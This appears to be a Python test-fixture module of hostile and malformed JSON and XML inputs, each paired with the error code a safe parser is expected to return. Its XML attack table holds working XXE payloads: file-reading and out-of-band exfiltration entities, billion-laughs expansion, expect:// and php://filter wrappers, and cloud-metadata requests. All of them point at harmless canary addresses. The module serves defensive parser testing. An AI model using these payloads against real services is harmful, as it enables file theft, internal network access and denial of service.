"""Hostile and odd bytes by name, each with the verdict it must get; made here, so nothing has to be kept as a file."""

from __future__ import annotations

import codecs
import gzip
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Final

BOM: Final = codecs.BOM_UTF8


@dataclass(frozen=True, kw_only=True)
class Canary:
    """What must stay untouched: an address that nobody may call, a file that nobody may open."""

    url: str = "http://127.0.0.1:9/canary"
    file: Path = Path("/nonexistent/canary")


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """
    One input.

    Args:
        syntax: "json" or "xml": the front door that it knocks at.
        codes: Why it is refused, one of these; empty = it is well-formed and within the limits, so it is read.
    """

    name: str
    syntax: str
    make: Callable[[Canary], bytes]
    codes: frozenset[str]

    @property
    def readable(self) -> bool:
        return not self.codes

    def __str__(self) -> str:
        return f"{self.syntax}: {self.name}"


def collection() -> Iterator[Hostile]:
    """Every input, refused and readable, JSON and XML."""
    for syntax, tables in (("json", (_JSON_REFUSED, _JSON_READ)), ("xml", (_XML_REFUSED, _XML_READ, _XML_ATTACKS))):
        for table in tables:
            for name, (make, *codes) in table.items():
                yield Hostile(name=name, syntax=syntax, make=_maker(make), codes=frozenset(codes))


def _maker(make: bytes | str | Callable[[Canary], bytes]) -> Callable[[Canary], bytes]:
    if callable(make):
        return make
    raw = make.encode() if isinstance(make, str) else make
    return lambda _: raw


_Table = dict[str, tuple[bytes | str | Callable[[Canary], bytes], *tuple[str, ...]]]

_TEXT = '{"a": "x"}'
_JSON_REFUSED: _Table = {
    "nothing": (b"", "empty"),
    "blanks": (b" \r\n\t ", "empty"),
    "only a mark": (BOM, "empty"),
    "two marks": (BOM + BOM + b"{}", "not_json"),
    "a word": ("onbekend", "not_json"),
    "trailing bytes": ("{} x", "not_json"),
    "two values": ("{}{}", "not_json"),
    "a NUL at the end": (b"{}\x00", "control_character"),
    "trailing comma in a list": ("[1,]", "not_json"),
    "trailing comma in an object": ('{"a":1,}', "not_json"),
    "no comma": ("[1 2]", "not_json"),
    "no colon": ('{"a" 1}', "not_json"),
    "no closing bracket": ('{"a": [1}', "not_json"),
    "one bracket too many": ('{"a": [1]]}', "not_json"),
    "single quotes": ("{'a': 1}", "not_json"),
    "a name without quotes": ("{a: 1}", "not_json"),
    "a number as a name": ("{1: 1}", "not_json"),
    "a comment": ('{"a": /* b */ 1}', "not_json"),
    "a line comment": ('{"a": 1} // b', "not_json"),
    "an unknown escape": (r'["\x41"]', "not_json"),
    "a cut escape": (r'["\u00e"]', "not_json"),
    "a cut text": ('["abc', "not_json"),
    "a line break in a text": ('["a\nb"]', "not_json"),
    "a tab in a text": ('["a\tb"]', "not_json"),
    "a no-break space between": ("[1,\u00a02]", "not_json"),
    "a form feed between": ("[1,\x0c2]", "control_character"),
    "capital True": ("[True]", "not_json"),
    "a leading nought": ("[012]", "not_json"),
    "a leading plus": ("[+1]", "not_json"),
    "a leading point": ("[.5]", "not_json"),
    "a trailing point": ("[5.]", "not_json"),
    "a bare minus": ("[-]", "not_json"),
    "a comma as decimal mark": ('{"a": 1,5}', "not_json"),
    "hexadecimal": ("[0x1F]", "not_json"),
    "digits of another script": ("[\u0663]", "not_json"),
    "full-width digits": ("[\uff11]", "not_json"),
    "half an exponent": ("[1e]", "not_json"),
    "NaN": ("[NaN]", "not_a_number"),
    "Infinity": ("[Infinity]", "not_a_number"),
    "minus Infinity": ("[-Infinity]", "not_a_number"),
    "1e999": ("[1e999]", "number_out_of_range"),
    "1e-999": ("[1e-999]", "number_out_of_range"),
    "an exponent of 900 digits": (b"[1e" + b"9" * 900 + b"]", "number_out_of_range"),
    "an exponent of 5,000 digits": (b"[1e" + b"9" * 5_000 + b"]", "number_too_long"),
    "16 digits": ("[1234567890123456]", "number_too_long"),
    "16 digits, negative": ("[-1234567890123456]", "number_too_long"),
    "16 digits after a text of 16 digits": ('["1234567890123456", 1234567890123456]', "number_too_long"),
    "16 whole digits and a fraction": ("[1234567890123456.5]", "number_too_long"),
    "a million digits": (b"1" * 1_000_000, "number_too_long"),
    "a fraction of a million digits": (b"[0." + b"1" * 1_000_000 + b"]", "number_too_long"),
    "a name twice": ('{"a": 1, "a": 2}', "duplicate_name"),
    "a name twice with one value": ('{"a": 1, "a": 1}', "duplicate_name"),
    "a name twice, once escaped": (r'{"a": 1, "\u0061": 2}', "duplicate_name"),
    "a name twice, deep": ('[[{"b": {"a": 1, "c": 2, "a": 3}}]]', "duplicate_name"),
    "the empty name twice": ('{"": 1, "": 2}', "duplicate_name"),
    "a name twice, with colons in the names": ('{"a:b": 1, "a:b": 2}', "duplicate_name"),
    "a name twice, beside colons in a text": ('{"a": ":", "b": "::", "a": 2}', "duplicate_name"),
    "a name twice, beside escaped quotes": (r'{"a\"": "\":", "b": 1, "a\"": 2}', "duplicate_name"),
    "a name twice, beside backslashes": (r'{"a\\": "x\\", "b": 1, "a\\": 2}', "duplicate_name"),
    "a name twice among 100,000": (lambda _: _many_names(100_000) + b', "n7": 2}', "duplicate_name"),
    "raw NUL": (b'["\x00"]', "control_character"),
    "raw bell": (b'["\x07"]', "control_character"),
    "raw DEL": (b'["\x7f"]', "control_character"),
    "raw C1": ('["\x9b31m"]', "control_character"),
    "escaped NUL": (r'["\u0000"]', "control_character"),
    "escaped NUL in a name": (r'{"a\u0000": 1}', "control_character"),
    "escaped escape": (r'["\u001b[31m"]', "control_character"),
    "escaped backspace": (r'["\b"]', "control_character"),
    "escaped form feed": (r'["\f"]', "control_character"),
    "escaped DEL": (r'["\u007F"]', "control_character"),
    "escaped C1": (r'["\u0085"]', "control_character"),
    "half a pair, first": (r'["\ud83d"]', "control_character"),
    "half a pair, second": (r'["\ude00"]', "control_character"),
    "a pair the wrong way round": (r'["\ude00\ud83d"]', "control_character"),
    "half a pair and an escape": (r'["\ud83d\n"]', "control_character"),
    "half a pair in a name": (r'{"\udfff": 1}', "control_character"),
    "a raw half of a pair": (b'["\xed\xa0\xbd"]', "not_utf8"),
    "a pair in CESU-8": (b'["\xed\xa0\xbd\xed\xb8\x80"]', "not_utf8"),
    "ISO-8859-1": ('["caf\u00e9"]'.encode("latin-1"), "not_utf8"),
    "a byte that is never UTF-8": (b'["\xff"]', "not_utf8"),
    "a continuation alone": (b'["\x80"]', "not_utf8"),
    "an overlong slash": (b'["\xc0\xaf"]', "not_utf8"),
    "an overlong NUL": (b'["\xc0\x80"]', "not_utf8"),
    "an overlong quote": (b'["\xc0\xa2]', "not_utf8"),
    "five bytes for one character": (b'["\xf8\x88\x80\x80\x80"]', "not_utf8"),
    "beyond Unicode": (b'["\xf4\x90\x80\x80"]', "not_utf8"),
    "a cut character": (b'["\xe2\x82"]', "not_utf8"),
    "UTF-16 with a mark": (_TEXT.encode("utf-16"), "not_utf8"),
    "UTF-16, big end first, no mark": (_TEXT.encode("utf-16-be"), "control_character"),
    "UTF-16, little end first, no mark": (_TEXT.encode("utf-16-le"), "control_character"),
    "UTF-32 with a mark": (_TEXT.encode("utf-32"), "not_utf8"),
    "UTF-32, no mark": (_TEXT.encode("utf-32-be"), "control_character"),
    "UTF-7": (b"+AHsAIgBh-", "not_json"),
    "EBCDIC": (_TEXT.encode("cp500"), "not_utf8", "control_character"),
    "33 lists": (b"[" * 33 + b"]" * 33, "too_deep"),
    "33 objects": (b'{"a":' * 33 + b"1" + b"}" * 33, "too_deep"),
    "33 in turns": (b'[{"a":' * 17 + b"1" + b"}]" * 17, "too_deep"),
    "33, with brackets in texts": (b'["]",' * 33 + b"1" + b"]" * 33, "too_deep"),
    "33, with escaped quotes in texts": (b'["\\"]",' * 33 + b"1" + b"]" * 33, "too_deep"),
    "33, behind many that are flat": (b"[" + b"[]," * 10_000 + b"[" * 32 + b"]" * 33, "too_deep"),
    "100,000 brackets": (b"[" * 100_000, "too_deep"),
    "100,000 pairs": (b"[" * 100_000 + b"]" * 100_000, "too_deep"),
    "100,000 braces": (b'{"a":' * 100_000, "too_deep"),
    "50,000 that stay open": (b"[[]," * 50_000, "too_deep"),
    "500,001 values": (b"[" + b"1," * 500_001 + b"1]", "too_many"),
    "gzip": (gzip.compress(_TEXT.encode(), mtime=0), "not_utf8"),
    "deflate": (zlib.compress(_TEXT.encode()), "not_utf8"),
    "XML": ("<a/>", "not_json"),
    "a form": ("a=1&b=2", "not_json"),
}  # fmt: skip

_JSON_READ: _Table = {
    "an object": ("{}",),
    "a list": ("[]",),
    "a text": ('"onbekend"',),
    "a number": ("-1.50",),
    "null": ("null",),
    "with a mark": (BOM + b"{}",),
    "blanks around": (b"\r\n\t {} \n",),
    "32 lists": (b"[" * 32 + b"]" * 32,),
    "32 objects": (b'{"a":' * 32 + b"1" + b"}" * 32,),
    "50 brackets in a text": (b'["' + b"[" * 50 + b'"]',),
    "50 brackets after an escaped quote": (b'["\\"' + b"[" * 50 + b'"]',),
    "200 lists side by side": (b"[" + b"[[]]," * 200 + b"[]]",),
    "15 digits": ("[123456789012345, -999999999999999]",),
    "20 digits in a text": ('["12345678901234567890"]',),
    "20 digits in a name": ('{"12345678901234567890": 1}',),
    "a fraction of 60 digits": (b"[0." + b"1" * 60 + b"]",),
    "a fraction of 900 digits": (b"[0." + b"1" * 900 + b"]",),
    "exponents": ("[1e5, 1E+5, 1e-5, 0e0, 1.5e300, 1e-300]",),
    "minus nought": ("[-0, -0.0]",),
    "every escape": (r'["\"\\\/\n\r\t\u00e9"]',),
    "a whole pair, escaped": (r'["\ud83d\ude00"]',),
    "four bytes": ('["\U0001f600"]',),
    "not a character, yet Unicode": ('["\uffff\ufdd0"]',),
    "a mark inside a text": ('["\ufeff"]',),
    "line separators in a text": ('["\u2028\u2029"]',),
    "right to left": ('["\u202e\u0634"]',),
    "one name in two objects": ('[{"a": 1}, {"a": 1}]',),
    "names that differ in composition": ('{"\u00e9": 1, "e\u0301": 2}',),
    "a name that looks like code": ('{"__proto__": 1, "constructor": 2, "$ref": "file:///etc/passwd"}',),
    "colons everywhere": ('{"a:": ":", ":b": "::", ":": "\\":\\""}',),
    "the empty name": ('{"": 1}',),
    "100,000 names": (lambda _: _many_names(100_000) + b"}",),
    "100,000 lists side by side": (b"[" + b"[]," * 99_999 + b"[]]",),
    "a text of a million characters": (b'["' + b"x" * 1_000_000 + b'"]',),
    "a text of 600,000 commas": (b'["' + b",." * 600_000 + b'"]',),
}  # fmt: skip

_XML_REFUSED: _Table = {
    "nothing": (b"", "empty"),
    "blanks": (b" \r\n\t ", "empty"),
    "only a mark": (BOM, "empty"),
    "two marks": (BOM + BOM + b"<a/>", "not_xml"),
    "only a declaration": ('<?xml version="1.0"?>', "not_xml"),
    "only a comment": ("<!-- a -->", "not_xml"),
    "a word": ("onbekend", "not_xml"),
    "JSON": ("{}", "not_xml"),
    "HTML": ("<p>a<br>b</p>", "not_xml"),
    "two roots": ("<a/><b/>", "not_xml"),
    "text after the root": ("<a/>b", "not_xml"),
    "text before the root": ("b<a/>", "not_xml"),
    "a NUL after the root": (b"<a/>\x00", "control_character"),
    "CDATA outside the root": ("<a/><![CDATA[b]]>", "not_xml"),
    "a reference outside the root": ("&#65;<a/>", "not_xml"),
    "not closed": ("<a><b></a>", "not_xml"),
    "closed in the wrong order": ("<a><b><c></b></c></a>", "not_xml"),
    "closed twice": ("<a></a></a>", "not_xml"),
    "another case at the end": ("<a></A>", "not_xml"),
    "cut in a tag": ("<a><b", "not_xml"),
    "cut in a text": ("<a>12", "not_xml"),
    "cut in an attribute": ('<a b="', "not_xml"),
    "an attribute twice": ('<a b="1" b="2"/>', "not_xml"),
    "an attribute twice by namespace": ('<a xmlns:x="u" xmlns:y="u" x:b="1" y:b="2"/>', "not_xml"),
    "an attribute without quotes": ("<a b=1/>", "not_xml"),
    "an attribute without a value": ("<a b/>", "not_xml"),
    "attributes without a space between": ('<a b="1"c="2"/>', "not_xml"),
    "a < in an attribute": ('<a b="<"/>', "not_xml"),
    "a bare ampersand": ("<a>b & c</a>", "not_xml"),
    "an ampersand without an end": ("<a>&amp</a>", "not_xml"),
    "an unknown entity": ("<a>&nbsp;</a>", "not_xml"),
    "an unknown entity in an attribute": ('<a b="&nbsp;"/>', "not_xml"),
    "]]> in a text": ("<a>]]></a>", "not_xml"),
    "CDATA without an end": ("<a><![CDATA[b</a>", "not_xml"),
    "CDATA in another case": ("<a><![cdata[b]]></a>", "not_xml"),
    "a comment without an end": ("<a><!-- b</a>", "not_xml"),
    "two hyphens in a comment": ("<a><!-- b -- c --></a>", "not_xml"),
    "three hyphens end a comment": ("<a><!-- b ---></a>", "not_xml"),
    "an instruction without an end": ("<a><?b</a>", "not_xml"),
    "an instruction named xml": ("<a><?xml b?></a>", "not_xml"),
    "an instruction named XmL": ("<a><?XmL b?></a>", "not_xml"),
    "a declaration after a blank": (' <?xml version="1.0"?><a/>', "not_xml"),
    "a declaration twice": ('<?xml version="1.0"?><?xml version="1.0"?><a/>', "not_xml"),
    "a declaration without a version": ('<?xml encoding="utf-8"?><a/>', "not_xml"),
    "a declaration in the wrong order": ('<?xml version="1.0" standalone="yes" encoding="utf-8"?><a/>', "not_xml"),
    "a declaration with more": ('<?xml version="1.0" more="1"?><a/>', "not_xml"),
    "a declaration that does not end": ('<?xml version="1.0" <a/>', "not_xml"),
    "standalone perhaps": ('<?xml version="1.0" standalone="perhaps"?><a/>', "not_xml"),
    "a name that begins with a digit": ("<1a/>", "not_xml"),
    "a name that begins with a hyphen": ("<-a/>", "not_xml"),
    "a blank before the name": ("< a/>", "not_xml"),
    "a prefix that nobody declared": ("<a><b:c/></a>", "not_xml"),
    "a prefix that nobody declared, on an attribute": ('<a b:c="1"/>', "not_xml"),
    "a prefix undeclared again": ('<a xmlns:b="u"><c xmlns:b=""><b:d/></c></a>', "not_xml"),
    "two colons": ('<a:b:c xmlns:a="u"/>', "not_xml"),
    "a name of a colon": ("<:a/>", "not_xml"),
    "xml as a prefix of something else": ('<a xmlns:xml="urn:x"/>', "not_xml"),
    "xmlns as a prefix": ('<a xmlns:xmlns="urn:x"/>', "not_xml"),
    "a reference to NUL": ("<a>&#0;</a>", "not_xml"),
    "a reference to a control": ("<a>&#x1b;</a>", "not_xml"),
    "a reference to half a pair": ("<a>&#xd83d;</a>", "not_xml"),
    "a reference to a pair in halves": ("<a>&#xd83d;&#xde00;</a>", "not_xml"),
    "a reference to no character": ("<a>&#xffff;</a>", "not_xml"),
    "a reference beyond Unicode": ("<a>&#x110000;</a>", "not_xml"),
    "a reference of 5,000 digits": (b"<a>&#" + b"9" * 5_000 + b";</a>", "not_xml"),
    "a reference with a capital X": ("<a>&#X41;</a>", "not_xml"),
    "an empty reference": ("<a>&#;</a>", "not_xml"),
    "raw NUL": (b"<a>\x00</a>", "control_character"),
    "raw bell": (b"<a>\x07</a>", "control_character"),
    "raw DEL": (b"<a>\x7f</a>", "control_character"),
    "raw C1": ("<a>\x85</a>", "control_character"),
    "raw C1 in an attribute": ('<a b="\x9b"/>', "control_character"),
    "a reference to DEL": ("<a>&#127;</a>", "control_character"),
    "a reference to C1": ("<a>&#x85;</a>", "control_character"),
    "a reference to C1 with many noughts": ("<a>&#x000000000000000085;</a>", "control_character"),
    "a reference to C1 in an attribute": ('<a><b c="&#00159;"/></a>', "control_character"),
    "a raw C1 in ISO-8859-1": (b'<?xml version="1.0" encoding="ISO-8859-1"?><a>\x9b</a>', "control_character", "encoding"),
    "not a character": ("<a>\uffff</a>", "not_xml"),
    "a byte that is never UTF-8": (b"<a>\xff</a>", "wrong_encoding"),
    "an overlong slash": (b"<a>\xc0\xaf</a>", "wrong_encoding"),
    "an overlong <": (b"<a>\xc0\xbcb/></a>", "wrong_encoding"),
    "a raw half of a pair": (b"<a>\xed\xa0\xbd</a>", "wrong_encoding"),
    "a cut character": (b"<a>\xe2\x82</a>", "wrong_encoding"),
    "ISO-8859-1 that does not say so": ("<a>caf\u00e9</a>".encode("latin-1"), "wrong_encoding"),
    "ISO-8859-1 that says UTF-8": ('<?xml version="1.0" encoding="UTF-8"?><a>\u00e9</a>'.encode("latin-1"), "wrong_encoding"),
    "UTF-8 that says ASCII": ('<?xml version="1.0" encoding="US-ASCII"?><a>\u00e9</a>', "wrong_encoding"),
    "UTF-8 that says UTF-16": ('<?xml version="1.0" encoding="UTF-16"?><a/>', "encoding"),
    "UTF-16 that says so": ('<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16"), "wrong_encoding"),
    "UTF-16 without a declaration": ("<a/>".encode("utf-16"), "wrong_encoding"),
    "UTF-16, no mark": ("<a/>".encode("utf-16-be"), "control_character"),
    "UTF-16 that hides a DOCTYPE": ('<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'.encode("utf-16-le"), "control_character"),
    "UTF-32": ("<a/>".encode("utf-32"), "wrong_encoding"),
    "UTF-7 that says so": ('<?xml version="1.0" encoding="UTF-7"?>+ADw-a+AC8APg-', "encoding"),
    "UTF-7 that hides a DOCTYPE": ('<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>', "encoding"),
    "UTF-7 that does not say so": ("+ADw-a+AC8APg-", "not_xml"),
    "EBCDIC": ('<?xml version="1.0" encoding="cp500"?><a/>'.encode("cp500"), "wrong_encoding", "control_character"),
    "EBCDIC in ASCII": ('<?xml version="1.0" encoding="cp500"?><a/>', "encoding"),
    "Shift-JIS": ('<?xml version="1.0" encoding="Shift_JIS"?><a>\u3042</a>'.encode("shift-jis"), "encoding"),
    "an encoding that nobody knows": ('<?xml version="1.0" encoding="x-none"?><a/>', "encoding"),
    "an encoding of 60 letters": ('<?xml version="1.0" encoding="UUU' + "U" * 50 + 'TF-8"?><a/>', "encoding"),
    "an encoding that only Python knows": ('<?xml version="1.0" encoding="utf"?><a/>', "encoding"),
    "an encoding with a blank": ('<?xml version="1.0" encoding="UTF 8"?><a/>', "encoding"),
    "no encoding between the quotes": ('<?xml version="1.0" encoding=""?><a/>', "encoding"),
    "a version of 60 digits": ('<?xml version="1.' + "0" * 60 + '"?><a/>', "xml_version"),
    "an encoding of Python's own": ('<?xml version="1.0" encoding="rot13"?><a/>', "encoding"),
    "punycode": ('<?xml version="1.0" encoding="punycode"?><a/>', "encoding"),
    "base64": ('<?xml version="1.0" encoding="base64"?><a/>', "encoding"),
    "an encoding with a mark that says otherwise": (BOM + b'<?xml version="1.0" encoding="ISO-8859-1"?><a/>', "encoding"),
    "XML 1.1": ('<?xml version="1.1"?><a/>', "xml_version"),
    "XML 1.1 with controls": ('<?xml version="1.1"?><a>&#1;</a>', "xml_version"),
    "XML 2.0": ('<?xml version="2.0"?><a/>', "xml_version"),
    "33 levels": (b"<a>" * 33 + b"</a>" * 33, "too_deep"),
    "33 levels behind 10,000 siblings": (b"<a>" + b"<b/>" * 10_000 + b"<c>" * 32 + b"</c>" * 32 + b"</a>", "too_deep"),
    "300 levels": (b"<a>" * 300 + b"</a>" * 300, "too_much", "too_deep"),
    "100,000 levels": (b"<a>" * 100_000 + b"</a>" * 100_000, "too_much", "too_deep"),
    "100,000 levels that stay open": (b"<a>" * 100_000, "too_much", "not_xml"),
    "100,001 attributes": (lambda _: b"<a " + b" ".join(b'b%d=""' % n for n in range(100_001)) + b"/>", "too_many"),
    "500,001 elements": (b"<a>" + b"<b/>" * 500_000 + b"</a>", "too_many"),
    "a name of 60,000 characters": (b"<" + b"a" * 60_000 + b"/>", "too_much"),
    "an attribute name of 60,000 characters": (b"<a " + b"b" * 60_000 + b'="1"/>', "too_much"),
    "gzip": (gzip.compress(b"<a/>", mtime=0), "wrong_encoding"),
}  # fmt: skip

_XML_READ: _Table = {
    "an element": ("<a/>",),
    "with a mark": (BOM + b"<a/>",),
    "with a mark and a declaration": (BOM + b'<?xml version="1.0" encoding="UTF-8"?><a/>',),
    "a declaration in single quotes": ("<?xml version='1.0' encoding='utf-8' standalone='no' ?><a/>",),
    "a declaration over lines": ('<?xml\n version="1.0"\r\n\tencoding = "utf-8"?>\n<a/>',),
    "a long declaration": (b'<?xml version="1.0"' + b" " * 500 + b"?><a/>",),
    "standalone": ('<?xml version="1.0" standalone="yes"?><a/>',),
    "UTF-8 by its other name": ('<?xml version="1.0" encoding="UTF8"?><a>\u00e9</a>',),
    "ISO-8859-1 by its other name": ('<?xml version="1.0" encoding="latin1"?><a>\u00e9</a>'.encode("latin-1"),),
    "ASCII that says so": ('<?xml version="1.0" encoding="US-ASCII"?><a>&#233;</a>',),
    "blanks and remarks around": ("\n<!-- a --><?b c?>\n<a/>\n<?d e?><!-- f -->\n",),
    "a style sheet first": ('<?xml-stylesheet href="http://127.0.0.1:9/x.xsl" type="text/xsl"?><a/>',),
    "a style sheet with an encoding": ('<?xml-stylesheet version="2.0" encoding="UTF-16"?><a/>',),
    "a DOCTYPE in a comment": ("<!-- <!DOCTYPE a> --><a/>",),
    "a DOCTYPE in an instruction": ("<?b <!DOCTYPE a>?><a/>",),
    "a DOCTYPE in a CDATA section": ("<a><![CDATA[<!DOCTYPE a [<!ENTITY b 'c'>]>]]></a>",),
    "the five entities": ('<a b="&lt;&gt;&amp;&quot;&apos;">&lt;&gt;&amp;&quot;&apos;</a>',),
    "references": ('<a b="&#233;&#xE9;&#x1F600;">&#233;&#xE9;&#10;&#9;</a>',),
    "CDATA": ("<a><![CDATA[1 < 2 && 3]]]]><![CDATA[>]]></a>",),
    "a reference in a CDATA section is none": ("<a><!-- &#x85; --><![CDATA[&#x85;]]>&#160;&#126;</a>",),
    "an empty CDATA section": ("<a><![CDATA[]]></a>",),
    "remarks inside a text": ("<a>1<!-- b -->0<?c d?>0</a>",),
    "a default namespace": ('<a xmlns="urn:a"><b xmlns=""><c xmlns="urn:c"/></b></a>',),
    "a prefix declared again": ('<p:a xmlns:p="urn:a"><p:b xmlns:p="urn:b"/></p:a>',),
    "xml:lang, xml:space, xml:base, xml:id": ('<a xml:lang="nl" xml:space="preserve" xml:base="http://127.0.0.1:9/" xml:id="b"/>',),
    "the same xml:id twice": ('<a><b xml:id="c"/><b xml:id="c"/></a>',),
    "xsi:nil and xsi:type": ('<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:nil="true" xsi:type="b"/>',),
    "a schema to fetch": (lambda at: f'<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{at.url}"/>'.encode(),),
    "names in many scripts": ("<\u00e9t\u00e9 \u0434\u0430='1'><\u4e00/></\u00e9t\u00e9>",),
    "names with marks": ("<a-b.c_d><_e/></a-b.c_d>",),
    "a > in an attribute": ("<a b='>'/>",),
    "line ends of every kind": ("<a>b\r\nc\rd\te</a>",),
    "32 levels": (b"<a>" * 32 + b"</a>" * 32,),
    "a text of a million characters": (b"<a>" + b"x" * 1_000_000 + b"</a>",),
    "an attribute of a million characters": (b"<a b='" + b"x" * 1_000_000 + b"'/>",),
    "a comment of a million characters": (b"<a><!--" + b"x" * 1_000_000 + b"--></a>",),
    "100,000 siblings": (b"<a>" + b"<b/>" * 100_000 + b"</a>",),
    "100,000 comments": (b"<a>" + b"<!---->" * 100_000 + b"</a>",),
    "100,000 CDATA sections": (b"<a>" + b"<![CDATA[x]]>" * 100_000 + b"</a>",),
    "100,000 references": (b"<a>" + b"&#120;" * 100_000 + b"</a>",),
    "1,000 attributes": (lambda _: b"<a " + b" ".join(b'b%d=""' % n for n in range(1_000)) + b"/>",),
    "10,000 namespaces": (lambda _: b"<a " + b" ".join(b'xmlns:n%d="urn:%d"' % (n, n) for n in range(10_000)) + b"/>",),
    "10,000 namespaces in turn": (lambda _: b"<a>" + b"".join(b'<b xmlns="urn:%d"/>' % n for n in range(10_000)) + b"</a>",),
    "10,000 names": (lambda _: b"<a>" + b"".join(b"<b%d/>" % n for n in range(10_000)) + b"</a>",),
    "XInclude": (lambda at: f'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{at.file.as_uri()}" parse="text"/></a>'.encode(),),
    "XInclude over the network": (lambda at: f'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{at.url}"/></a>'.encode(),),
    "XSLT": (lambda at: f'<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:include href="{at.url}"/><x:template match="/"><x:copy-of select="document(\'{at.file.as_uri()}\')"/></x:template></x:stylesheet>'.encode(),),
    "SVG": (lambda at: f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink"><image l:href="{at.url}"/></svg>'.encode(),),
    "a WSDL that imports": (lambda at: f'<definitions xmlns="http://schemas.xmlsoap.org/wsdl/"><import namespace="urn:x" location="{at.url}"/></definitions>'.encode(),),
    "a SOAP attachment by address": (lambda at: f'<a xmlns:x="http://www.w3.org/2004/08/xop/include"><x:Include href="{at.url}"/></a>'.encode(),),
}  # fmt: skip


def _doctype(inside: str, body: str = "<a>&x;</a>", *, declaration: str = "") -> Callable[[Canary], bytes]:
    return lambda at: (
        f"{declaration}<!DOCTYPE a {inside}>{body}".replace("URL", at.url).replace("FILE", at.file.as_uri()).encode()
    )


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_XML_ATTACKS: _Table = {
    name: (make, "doctype")
    for name, make in {
        "an entity of its own": _doctype('[<!ENTITY x "1">]'),
        "a file": _doctype('[<!ENTITY x SYSTEM "FILE">]'),
        "a file by path": lambda at: f'<!DOCTYPE a [<!ENTITY x SYSTEM "{at.file}">]><a>&x;</a>'.encode(),
        "an address": _doctype('[<!ENTITY x SYSTEM "URL">]'),
        "a public name with an address": _doctype('[<!ENTITY x PUBLIC "-//X//Y//EN" "URL">]'),
        "an outer subset": _doctype('SYSTEM "URL"'),
        "an outer subset from a file": _doctype('SYSTEM "FILE"'),
        "a public outer subset": _doctype('PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "URL"', "<a/>"),
        "a parameter entity": _doctype('[<!ENTITY % x SYSTEM "URL">%x;]'),
        "a parameter entity that builds another": _doctype(
            '[<!ENTITY % f SYSTEM "FILE"><!ENTITY % d SYSTEM "URL"><!ENTITY % x "<!ENTITY &#37; s SYSTEM \'URL?%f;\'>">%x;%s;]'
        ),
        "an entity in an attribute": _doctype('[<!ENTITY x SYSTEM "FILE">]', '<a b="&x;"/>'),
        "laughs": _doctype(f'[<!ENTITY l0 "ha">{_LAUGHS}]', "<a>&l9;</a>"),
        "quadratic": _doctype(f'[<!ENTITY x "{"x" * 50_000}">]', f"<a>{'&x;' * 10_000}</a>"),
        "an entity that holds itself": _doctype('[<!ENTITY x "&y;"><!ENTITY y "&x;">]'),
        "a notation and an unparsed entity": _doctype('[<!NOTATION n SYSTEM "URL"><!ENTITY x SYSTEM "URL" NDATA n>]', "<a/>"),
        "a default attribute": _doctype('[<!ATTLIST a b CDATA "1">]', "<a/>"),
        "an empty DOCTYPE": _doctype("", "<a/>"),
        "behind a declaration": _doctype('[<!ENTITY x SYSTEM "FILE">]', declaration='<?xml version="1.0"?>\n'),
        "behind remarks": _doctype('[<!ENTITY x SYSTEM "FILE">]', declaration="<!-- <a> --><?b <a>?>\n"),
        "behind a comment full of arrows": _doctype('[<!ENTITY x "1">]', declaration="<!-- > -> ?> ]]> <!DOCTYPE -->"),
        "in ISO-8859-1": _doctype('[<!ENTITY x "1">]', declaration='<?xml version="1.0" encoding="ISO-8859-1"?>'),
        "in small letters": lambda _: b"<!doctype a><a/>",
        "over lines": lambda _: b"<!DOCTYPE\n\ta\r\n[\n<!ENTITY x 'y'>\n]\n>\n<a>&x;</a>",
        "that does not end": lambda _: b"<!DOCTYPE a [<!ENTITY x 'y'>",
        "with expect": _doctype('[<!ENTITY x SYSTEM "expect://id">]'),
        "with a PHP filter": _doctype('[<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource=FILE">]'),
        "with a jar": _doctype('[<!ENTITY x SYSTEM "jar:URL!/x">]'),
        "with ftp": _doctype('[<!ENTITY x SYSTEM "ftp://127.0.0.1:9/x">]'),
        "with gopher": _doctype('[<!ENTITY x SYSTEM "gopher://127.0.0.1:9/_x">]'),
        "with the machine's own address": _doctype('[<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]'),
        "with an endless file": _doctype('[<!ENTITY x SYSTEM "file:///dev/random">]'),
        "with a local DTD": _doctype(
            '[<!ENTITY % l SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"><!ENTITY % ISOamsa \'<!ENTITY &#x25; x SYSTEM "URL">&#x25;x;\'>%l;]',
            "<a/>",
        ),
        "inside SOAP": _doctype('[<!ENTITY x SYSTEM "FILE">]', '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>&x;</s:Body></s:Envelope>'),
    }.items()
} | {
    "a DOCTYPE behind the root": ("<a/><!DOCTYPE a>", "not_xml"),
    "a DOCTYPE inside the root": ("<a><!DOCTYPE a></a>", "not_xml"),
    "an entity declared inside the root": ("<a><!ENTITY b 'c'></a>", "not_xml"),
    "a DOCTYPE behind a text": ("x<!DOCTYPE a><a/>", "doctype", "not_xml"),
}  # fmt: skip


def _many_names(amount: int) -> bytes:
    return b"{" + b", ".join(b'"n%d": 1' % number for number in range(amount))
